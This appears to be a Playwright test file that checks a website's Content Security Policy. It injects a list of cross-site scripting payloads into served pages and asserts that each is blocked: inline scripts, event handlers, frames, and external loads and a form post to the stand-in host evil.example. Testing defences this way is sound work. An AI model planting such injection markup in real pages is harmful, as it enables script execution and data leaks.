// The policy of each page lets everything through that the site does, and nothing that somebody put in.
// no-framework.spec.ts reads what it says; here a browser obeys it.
import type { Page, Route } from '@playwright/test';
import { locales } from '../lib/locales';
import { paths } from '../lib/url/paths';
import { caseList } from './support/list';
import { allPageTypes } from './support/page-types';
import { watchPolicy } from './support/policy';
import { expect, test } from './support/site';

for (const { name, path, locale } of allPageTypes) {
  test(`nothing of ${name} is stopped (${locale ?? 'both'}) @sub-path`, async ({ page, visit }) => {
    const violations = await watchPolicy(page);
    await visit(path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    // Whatever opens on a click, whatever changes on a choice.
    for (const summary of await page.locator('main summary:visible').all()) {
      await summary.click();
    }
    const theme = page.locator('header select').first();
    if (await theme.isVisible()) await theme.selectOption({ index: 1 });
    for (const button of await page.locator('main button[type="button"]:visible').all()) {
      if (await button.isVisible()) await button.click({ timeout: 1000 }).catch(() => undefined);
      await page.keyboard.press('Escape');
    }
    expect(await violations()).toEqual([]);
  });
}

for (const locale of locales) {
  test(`nothing of a search and its worker is stopped (${locale})`, async ({ page, visit }) => {
    const violations = await watchPolicy(page);
    await visit(paths.cases(locale));
    await caseList(page, locale).search.fill('Kubernetes');
    await expect(page.locator('mark').first()).toBeVisible();
    expect(await violations()).toEqual([]);
  });
}

/** Each is put into a finished page; what stops it, and what it would have done. */
const attacks: readonly { name: string; markup: string; stopped: RegExp }[] = [
  {
    name: 'a script',
    markup: '<script>globalThis.ran = 1</script>',
    stopped: /^script-src-elem: inline/,
  },
  {
    name: 'a script of a module',
    markup: '<script type="module">globalThis.ran = 1</script>',
    stopped: /^script-src-elem: inline/,
  },
  {
    name: 'a script from elsewhere',
    markup: '<script src="https://evil.example/x.js"></script>',
    stopped: /^script-src-elem: https:\/\/evil\.example/,
  },
  {
    name: 'a script in an address',
    markup: '<script src="data:text/javascript,globalThis.ran=1"></script>',
    stopped: /^script-src-elem: data/,
  },
  {
    name: 'a handler',
    markup: '<img id="attack" src="/no.png" onerror="globalThis.ran = 1">',
    stopped: /^script-src-attr: inline/,
  },
  {
    name: 'a handler of a drawing',
    markup: '<svg onload="globalThis.ran = 1"></svg>',
    stopped: /^script-src-attr: inline/,
  },
  {
    name: 'a frame',
    markup: '<iframe src="https://evil.example/"></iframe>',
    stopped: /^frame-src: https:\/\/evil\.example/,
  },
  {
    name: 'a frame with its own text',
    markup: '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
    stopped: /^script-src-elem: inline|^frame-src/,
  },
  {
    name: 'an object',
    markup: '<object data="https://evil.example/x"></object>',
    stopped: /^object-src: https:\/\/evil\.example/,
  },
  {
    name: 'another base',
    markup: '<base href="https://evil.example/">',
    stopped: /^base-uri: https:\/\/evil\.example/,
  },
  {
    name: 'a picture from elsewhere',
    markup: '<img src="https://evil.example/x.png" alt="">',
    stopped: /^img-src: https:\/\/evil\.example/,
  },
  {
    name: 'a style sheet from elsewhere',
    markup: '<link rel="stylesheet" href="https://evil.example/x.css">',
    stopped: /^style-src-elem: https:\/\/evil\.example/,
  },
  {
    name: 'a style',
    markup: '<style>@import "https://evil.example/x.css"; body { color: red }</style>',
    stopped: /^style-src-elem: inline/,
  },
  {
    name: 'a style of an element',
    markup: '<p style="background: url(https://evil.example/x.png)">x</p>',
    stopped: /^style-src-attr: inline/,
  },
];

const places = [paths.case('en', 'wantedly-2024'), paths.cases('en')];

/** Puts markup into the page on its way, as somebody who changed the file would; React minds it elsewhere. */
async function inject(page: Page, path: string, markup: string): Promise<void> {
  await page.route(`**${path}`, async (route: Route) => {
    const response = await route.fetch();
    const text = await response.text();
    await route.fulfill({ response, body: text.replace('</body>', () => `${markup}</body>`) });
  });
}

const hasRun = (page: Page) => page.evaluate(() => 'ran' in globalThis);

test.describe('what somebody put in', () => {
  test.use({ expectedError: /Content Security Policy|ERR_BLOCKED_BY_CSP|404|evil\.example/ });

  for (const path of places) {
    for (const { name, markup, stopped } of attacks) {
      test(`${name} is stopped, and the page is told: ${path}`, async ({ page, visit }) => {
        const sent: string[] = [];
        page.on('response', (response) => sent.push(new URL(response.url()).host));
        const violations = await watchPolicy(page);
        await inject(page, path, markup);
        await visit(path);
        await expect
          .poll(async () => (await violations()).some((one) => stopped.test(one)))
          .toBe(true);
        expect(await hasRun(page)).toBe(false);
        expect(sent.filter((host) => host.includes('evil'))).toEqual([]);
      });
    }

    test(`a link that runs, a form to elsewhere, eval: ${path}`, async ({ page, visit }) => {
      const violations = await watchPolicy(page);
      const link = '<a id="attack" href="javascript:void(globalThis.ran = 1)">x</a>';
      const form =
        '<form id="away" action="https://evil.example/" method="post"><button>x</button></form>';
      await inject(page, path, link + form);
      await visit(path);
      const address = page.url();
      // A click of the driver would wait for the page that never comes.
      await page.locator('#attack').dispatchEvent('click');
      await page.locator('#away button').dispatchEvent('click');
      await expect
        .poll(async () => new Set((await violations()).map((one) => one.replace(/:.*/, ''))))
        .toEqual(new Set(['form-action', 'script-src-elem']));
      expect(page.url()).toBe(address);
      expect(await hasRun(page)).toBe(false);
      // As code of the page itself would: what a driver of the browser evaluates is let through.
      const outcome = await page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            document.addEventListener('securitypolicyviolation', (event) =>
              resolve(`${event.effectiveDirective}: ${event.blockedURI}`),
            );
            setTimeout('globalThis.ran = 1', 0);
            setTimeout(() => resolve('nothing was stopped'), 2000);
          }),
      );
      expect(outcome).toBe('script-src: eval');
      expect(await hasRun(page)).toBe(false);
    });
  }
});
